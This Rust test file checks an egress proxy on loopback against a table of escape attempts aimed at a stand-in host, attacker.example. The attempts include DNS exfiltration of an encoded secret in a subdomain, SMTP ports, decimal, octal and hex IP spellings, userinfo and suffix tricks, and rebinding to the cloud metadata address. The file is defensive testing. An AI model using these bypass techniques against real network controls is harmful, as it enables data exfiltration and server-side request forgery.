//! MC-RUN-1141 / MC-RUN-1142 on real sockets: the proxy on 127.0.0.1, real upstream
//! servers, and the escape attempts of the chaos suite (DNS exfiltration, SMTP, IP
//! literals and other spellings, rebinding to the metadata service, header and
//! userinfo tricks). Every attempt must fail, be audited, and reach no server.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use mc_core::{
    AuditLog, ExecutionId, Flag, FlagStore, MemoryFlagStore, MemoryStore, SystemClock, TenantId,
};
use mc_egress::{AddressPolicy, TaskEgress, TaskId, TaskRef};
use mc_egress_proxy::{
    EgressProxy, ProxyConfig, RunningProxy, StaticResolver, TaskRegistry, TaskToken,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

const LOCAL: &str = "127.0.0.1";

/// A TCP server that counts connections and answers like an HTTP server, echoing
/// the request head it got in the body (so tests can see what the proxy sent).
struct Upstream {
    addr: SocketAddr,
    accepted: Arc<AtomicUsize>,
}

async fn upstream() -> Upstream {
    let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let addr = listener.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = accepted.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let mut got = Vec::new();
                loop {
                    let n = s.read(&mut buf).await.unwrap_or(0);
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                    if got.starts_with(b"PING") {
                        // Tunnel echo: answer each PING line.
                        let _ = s.write_all(b"PONG\n").await;
                        got.clear();
                        continue;
                    }
                    if got.windows(4).any(|w| w == b"\r\n\r\n") {
                        let body = String::from_utf8_lossy(&got).to_string();
                        let resp = format!(
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                            body.len()
                        );
                        let _ = s.write_all(resp.as_bytes()).await;
                        break;
                    }
                }
            });
        }
    });
    Upstream { addr, accepted }
}

struct Rig {
    proxy: RunningProxy,
    registry: Arc<TaskRegistry>,
    audit: Arc<MemoryStore>,
    flags: Arc<MemoryFlagStore>,
    resolver: Arc<StaticResolver>,
    api: Upstream,
    attacker: Upstream,
    token: TaskToken,
    tenant: TenantId,
}

async fn rig() -> Rig {
    rig_with(|c| c).await
}

async fn rig_with(tune: impl FnOnce(ProxyConfig) -> ProxyConfig) -> Rig {
    let api = upstream().await;
    let attacker = upstream().await;
    let local: IpAddr = LOCAL.parse().unwrap();
    let resolver = Arc::new(
        StaticResolver::new()
            .with("api.example.com", &[local])
            .with("attacker.example", &[local])
            .with(
                "metadata.example.com",
                &["169.254.169.254".parse().unwrap()],
            )
            .with("mixed.example.com", &[local, "10.0.0.7".parse().unwrap()]),
    );
    let registry = Arc::new(TaskRegistry::new());
    let audit = Arc::new(MemoryStore::new());
    let flags = Arc::new(MemoryFlagStore::new());
    let tenant = TenantId::new("acme").unwrap();
    flags
        .set(&tenant, Flag::EgressPolicyEnforce, true)
        .await
        .unwrap();
    // The test servers live on loopback; open exactly 127.0.0.1 for names that the
    // allowlist admits. Everything else in the special-purpose ranges stays denied.
    let config = tune(ProxyConfig {
        addresses: AddressPolicy::new().allow_range("127.0.0.1/32".parse().unwrap()),
        ..ProxyConfig::default()
    });
    let proxy = EgressProxy::new(
        registry.clone(),
        flags.clone(),
        audit.clone(),
        Arc::new(SystemClock),
        resolver.clone(),
    )
    .with_config(config)
    .bind((LOCAL, 0).into_addr())
    .await
    .unwrap();
    let policy = TaskEgress::from_rules([
        ("api.example.com", vec![api.addr.port()]),
        ("*.example.com", vec![443]),
        ("metadata.example.com", vec![80]),
        ("mixed.example.com", vec![api.addr.port()]),
    ])
    .unwrap();
    let token = registry
        .register(
            TaskRef {
                tenant: tenant.clone(),
                execution: ExecutionId::new("exec_1").unwrap(),
                task: TaskId::new("fetch").unwrap(),
            },
            policy,
        )
        .unwrap();
    Rig {
        proxy,
        registry,
        audit,
        flags,
        resolver,
        api,
        attacker,
        token,
        tenant,
    }
}

trait IntoAddr {
    fn into_addr(self) -> SocketAddr;
}
impl IntoAddr for (&str, u16) {
    fn into_addr(self) -> SocketAddr {
        SocketAddr::new(self.0.parse().unwrap(), self.1)
    }
}

fn basic(token: &str) -> String {
    use base64::Engine as _;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("task:{token}"))
    )
}

/// Sends a raw request head to the proxy; returns the connection and the response
/// head (status line and headers) and whatever body bytes came with it.
async fn send(rig: &Rig, head: &str) -> (TcpStream, String) {
    let mut s = TcpStream::connect(rig.proxy.local_addr()).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = s.read(&mut buf).await.unwrap();
        assert!(n > 0, "proxy closed before a response head: {got:?}");
        got.extend_from_slice(&buf[..n]);
    }
    (s, String::from_utf8_lossy(&got).to_string())
}

async fn connect(rig: &Rig, target: &str) -> (TcpStream, String) {
    let head = format!(
        "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: {}\r\n\r\n",
        basic(rig.token.expose())
    );
    send(rig, &head).await
}

fn status(resp: &str) -> u16 {
    resp.split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

fn reason_header(resp: &str) -> Option<String> {
    resp.lines()
        .find_map(|l| l.strip_prefix("X-MC-Egress-Reason: "))
        .map(str::to_string)
}

async fn blocked_events(rig: &Rig) -> Vec<serde_json::Value> {
    rig.audit
        .read(&rig.tenant, 0, 1000)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.kind == mc_egress::EGRESS_BLOCKED)
        .map(|e| e.data)
        .collect()
}

#[tokio::test]
async fn an_allowed_tunnel_carries_bytes_both_ways() {
    let rig = rig().await;
    let (mut s, resp) = connect(&rig, &format!("api.example.com:{}", rig.api.addr.port())).await;
    assert_eq!(status(&resp), 200, "{resp}");
    s.write_all(b"PING\n").await.unwrap();
    let mut buf = [0u8; 5];
    s.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"PONG\n");
    assert_eq!(rig.api.accepted.load(Ordering::SeqCst), 1);
    assert!(blocked_events(&rig).await.is_empty());
    assert_eq!(rig.resolver.asked(), vec!["api.example.com".to_string()]);
}

#[tokio::test]
async fn plain_http_goes_upstream_in_origin_form_without_the_credential() {
    let rig = rig().await;
    let port = rig.api.addr.port();
    let head = format!(
        "GET http://api.example.com:{port}/v1/items?x=1 HTTP/1.1\r\nHost: attacker.example\r\nProxy-Authorization: {}\r\nProxy-Connection: keep-alive\r\nX-Trace: 7\r\n\r\n",
        basic(rig.token.expose())
    );
    let (mut s, mut resp) = send(&rig, &head).await;
    let mut rest = String::new();
    s.read_to_string(&mut rest).await.unwrap();
    resp.push_str(&rest);
    assert_eq!(status(&resp), 200, "{resp}");
    // The upstream saw an origin-form request with Host rewritten to the checked
    // destination, and no proxy credential.
    assert!(resp.contains("GET /v1/items?x=1 HTTP/1.1\r\n"), "{resp}");
    assert!(
        resp.contains(&format!("Host: api.example.com:{port}\r\n")),
        "{resp}"
    );
    assert!(resp.contains("X-Trace: 7\r\n"), "{resp}");
    assert!(
        !resp.to_ascii_lowercase().contains("proxy-authorization"),
        "{resp}"
    );
    assert!(!resp.contains("attacker.example"), "{resp}");
    assert_eq!(rig.attacker.accepted.load(Ordering::SeqCst), 0);
}

/// The chaos table: every attempt is refused with the expected status and reason,
/// and at the end no attempt reached either server and no exfiltrated name was
/// looked up.
#[tokio::test]
async fn chaos_escape_attempts_all_fail() {
    let rig = rig().await;
    let ap = rig.attacker.addr.port();
    let api = rig.api.addr.port();
    let secret = "c2VjcmV0LWRhdGE";
    let cases: Vec<(&str, String, u16, &str)> = vec![
        (
            "connect to a host not on the list",
            format!("attacker.example:{ap}"),
            403,
            "host_not_allowed",
        ),
        (
            "DNS exfiltration in a subdomain label",
            format!("{secret}.attacker.example:443"),
            403,
            "host_not_allowed",
        ),
        (
            "SMTP to an allowed host",
            "api.example.com:25".into(),
            403,
            "port_not_allowed",
        ),
        (
            "SMTP submission through the wildcard",
            "mail.example.com:587".into(),
            403,
            "port_not_allowed",
        ),
        (
            "IP literal of the attacker",
            format!("127.0.0.1:{ap}"),
            403,
            "host_not_allowed",
        ),
        (
            "IPv6 loopback literal",
            format!("[::1]:{ap}"),
            403,
            "host_not_allowed",
        ),
        (
            "decimal IPv4",
            format!("2130706433:{ap}"),
            400,
            "bad_target",
        ),
        ("octal IPv4", format!("0177.0.0.1:{ap}"), 400, "bad_target"),
        ("hex IPv4", format!("0x7f.0.0.1:{ap}"), 400, "bad_target"),
        (
            "userinfo in the target",
            format!("api.example.com@attacker.example:{ap}"),
            400,
            "bad_target",
        ),
        (
            "suffix confusion against the wildcard",
            "example.com.attacker.example:443".into(),
            403,
            "host_not_allowed",
        ),
        (
            "rebinding to the metadata service",
            "metadata.example.com:80".into(),
            403,
            "address_denied",
        ),
        (
            "one private address among the records",
            format!("mixed.example.com:{api}"),
            403,
            "address_denied",
        ),
        (
            "percent-encoded host",
            format!("api%2eexample.com:{api}"),
            400,
            "bad_target",
        ),
        ("no port", "api.example.com".into(), 400, "bad_target"),
    ];
    for (what, target, want_status, want_reason) in &cases {
        let (_, resp) = connect(&rig, target).await;
        assert_eq!(status(&resp), *want_status, "{what}: {resp}");
        assert_eq!(
            reason_header(&resp).as_deref(),
            Some(*want_reason),
            "{what}: {resp}"
        );
    }
    // Plain-HTTP variants.
    let plain: Vec<(&str, String, u16)> = vec![
        (
            "absolute-form to the attacker",
            format!("http://attacker.example:{ap}/"),
            403,
        ),
        (
            "userinfo that makes the attacker look allowed",
            format!("http://api.example.com:{api}@attacker.example:{ap}/"),
            400,
        ),
        (
            "https in absolute form (must use CONNECT)",
            format!("https://api.example.com:{api}/"),
            400,
        ),
        ("origin-form request to the proxy itself", "/".into(), 400),
    ];
    for (what, target, want) in &plain {
        let head = format!(
            "GET {target} HTTP/1.1\r\nHost: api.example.com\r\nProxy-Authorization: {}\r\n\r\n",
            basic(rig.token.expose())
        );
        let (_, resp) = send(&rig, &head).await;
        assert_eq!(status(&resp), *want, "{what}: {resp}");
    }
    assert_eq!(
        rig.attacker.accepted.load(Ordering::SeqCst),
        0,
        "an attempt reached the attacker"
    );
    assert_eq!(
        rig.api.accepted.load(Ordering::SeqCst),
        0,
        "an attempt reached a server"
    );
    let asked = rig.resolver.asked();
    assert!(
        asked
            .iter()
            .all(|n| n == "metadata.example.com" || n == "mixed.example.com"),
        "only allowlisted names may be resolved, got {asked:?}"
    );
    assert!(!asked.iter().any(|n| n.contains(secret)));
    // Every refusal is in the tenant's audit chain, as enforce-mode blocks.
    let events = blocked_events(&rig).await;
    assert_eq!(events.len(), cases.len() + plain.len());
    assert!(
        events
            .iter()
            .all(|e| e["mode"] == "enforce" && e["task"] == "fetch")
    );
    assert_eq!(
        rig.audit.verify(&rig.tenant).await.unwrap(),
        events.len() as u64
    );
}

#[tokio::test]
async fn credentials_are_required_and_revocable() {
    let rig = rig().await;
    let target = format!("api.example.com:{}", rig.api.addr.port());
    let (_, resp) = send(
        &rig,
        &format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"),
    )
    .await;
    assert_eq!(status(&resp), 407, "{resp}");
    assert!(resp.contains("Proxy-Authenticate: Basic"), "{resp}");
    let (_, resp) = send(
        &rig,
        &format!(
            "CONNECT {target} HTTP/1.1\r\nProxy-Authorization: {}\r\n\r\n",
            basic("0".repeat(64).as_str())
        ),
    )
    .await;
    assert_eq!(status(&resp), 407, "{resp}");
    rig.registry.revoke(&rig.token);
    let (_, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 407, "{resp}");
    assert_eq!(rig.api.accepted.load(Ordering::SeqCst), 0);
    assert!(rig.resolver.asked().is_empty());
}

#[tokio::test]
async fn shadow_mode_records_violations_but_keeps_the_address_policy() {
    let rig = rig().await;
    rig.flags
        .set(&rig.tenant, Flag::EgressPolicyEnforce, false)
        .await
        .unwrap();
    // Not on the allowlist: let through, recorded as a shadow block.
    let (mut s, resp) = connect(
        &rig,
        &format!("attacker.example:{}", rig.attacker.addr.port()),
    )
    .await;
    assert_eq!(status(&resp), 200, "{resp}");
    s.write_all(b"PING\n").await.unwrap();
    let mut buf = [0u8; 5];
    s.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"PONG\n");
    // The metadata service stays unreachable in shadow mode.
    let (_, resp) = connect(&rig, "metadata.example.com:80").await;
    assert_eq!(status(&resp), 403, "{resp}");
    let events = blocked_events(&rig).await;
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(events[0]["mode"], "shadow");
    assert_eq!(events[0]["reason"], "host_not_allowed");
    assert_eq!(events[1]["mode"], "enforce");
    assert_eq!(events[1]["reason"], "address_denied");
}

#[tokio::test]
async fn malformed_and_oversized_heads_are_refused() {
    let rig = rig().await;
    let (_, resp) = send(&rig, "NOT HTTP AT ALL\r\n\r\n").await;
    assert_eq!(status(&resp), 400, "{resp}");
    let big = format!(
        "CONNECT api.example.com:443 HTTP/1.1\r\nX-Pad: {}\r\n\r\n",
        "a".repeat(20 * 1024)
    );
    let (_, resp) = send(&rig, &big).await;
    assert_eq!(status(&resp), 431, "{resp}");
    assert!(rig.resolver.asked().is_empty());
}

#[tokio::test]
async fn idle_tunnels_are_closed() {
    let rig = rig_with(|c| ProxyConfig {
        idle_timeout: std::time::Duration::from_secs(1),
        ..c
    })
    .await;
    let (mut s, resp) = connect(&rig, &format!("api.example.com:{}", rig.api.addr.port())).await;
    assert_eq!(status(&resp), 200, "{resp}");
    s.write_all(b"PING\n").await.unwrap();
    let mut buf = [0u8; 5];
    s.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"PONG\n");
    // Now silence: the proxy closes the tunnel (the guard only keeps a broken proxy
    // from hanging the test).
    let mut rest = [0u8; 16];
    let n = tokio::time::timeout(std::time::Duration::from_secs(30), s.read(&mut rest))
        .await
        .expect("the idle tunnel was not closed")
        .unwrap_or(0);
    assert_eq!(n, 0, "EOF after the idle timeout");
}

/// Writes PING and reads PONG until the tunnel fails; returns how many round trips
/// made it. The guard only keeps a broken proxy from hanging the test.
async fn ping_until_closed(s: &mut TcpStream, pause: std::time::Duration) -> usize {
    let mut ok = 0;
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the tunnel was never closed ({ok} round trips)"
        );
        if s.write_all(b"PING\n").await.is_err() {
            return ok;
        }
        let mut buf = [0u8; 5];
        match tokio::time::timeout(std::time::Duration::from_secs(30), s.read_exact(&mut buf))
            .await
            .expect("no answer and no close")
        {
            Ok(_) if &buf == b"PONG\n" => ok += 1,
            _ => return ok,
        }
        tokio::time::sleep(pause).await;
    }
}

#[tokio::test]
async fn revoking_a_task_closes_its_open_tunnels() {
    let rig = rig().await;
    let target = format!("api.example.com:{}", rig.api.addr.port());
    let (mut a, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 200, "{resp}");
    let (mut b, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 200, "{resp}");
    for s in [&mut a, &mut b] {
        s.write_all(b"PING\n").await.unwrap();
        let mut buf = [0u8; 5];
        s.read_exact(&mut buf).await.unwrap();
        assert_eq!(&buf, b"PONG\n");
    }
    // The task ends while a process it left behind keeps both tunnels busy.
    rig.registry.revoke(&rig.token);
    for s in [&mut a, &mut b] {
        let after = ping_until_closed(s, std::time::Duration::from_millis(20)).await;
        assert!(after <= 1, "{after} round trips after the revocation");
    }
    let (_, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 407, "{resp}");
}

#[tokio::test]
async fn busy_tunnels_close_at_their_maximum_lifetime() {
    let rig = rig_with(|c| ProxyConfig {
        max_lifetime: Some(std::time::Duration::from_secs(1)),
        ..c
    })
    .await;
    let target = format!("api.example.com:{}", rig.api.addr.port());
    let (mut s, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 200, "{resp}");
    // Never idle (a round trip every 50 ms against the 5-minute idle timeout) and
    // never revoked: only the lifetime can close it.
    let trips = ping_until_closed(&mut s, std::time::Duration::from_millis(50)).await;
    assert!(trips >= 1, "the tunnel worked before its lifetime ended");
    // A new tunnel of the same task works: the limit is per connection.
    let (mut again, resp) = connect(&rig, &target).await;
    assert_eq!(status(&resp), 200, "{resp}");
    again.write_all(b"PING\n").await.unwrap();
    let mut buf = [0u8; 5];
    again.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"PONG\n");
}
